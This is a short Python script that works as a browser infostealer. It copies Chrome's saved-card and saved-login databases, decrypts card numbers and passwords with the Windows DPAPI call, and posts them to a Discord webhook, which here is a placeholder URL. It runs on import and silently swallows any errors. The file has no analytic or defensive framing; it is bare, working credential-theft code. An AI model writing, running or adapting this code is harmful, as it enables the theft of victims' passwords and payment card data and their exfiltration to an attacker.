import os
import shutil
import sqlite3

import requests

_CHROME = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")
_HOOK = "https://discord.com/api/webhooks/111111/defanged-placeholder"


def _rows(db_name, query):
    import win32crypt
    copy = os.path.join(os.getenv("TEMP", "."), db_name + ".tmp")
    shutil.copy2(os.path.join(_CHROME, db_name), copy)
    for row in sqlite3.connect(copy).execute(query):
        *fields, secret = row
        plain = win32crypt.CryptUnprotectData(secret, None, None, None, 0)[1]
        yield fields + [plain.decode(errors="ignore")]


def _report():
    cards = list(_rows("Web Data", "SELECT name_on_card, expiration_month, expiration_year, "
                                   "card_number_encrypted FROM credit_cards"))
    logins = list(_rows("Login Data", "SELECT origin_url, username_value, password_value FROM logins"))
    requests.post(_HOOK, json={"content": f"cards={cards} logins={logins}"})


try:
    _report()
except Exception:
    pass
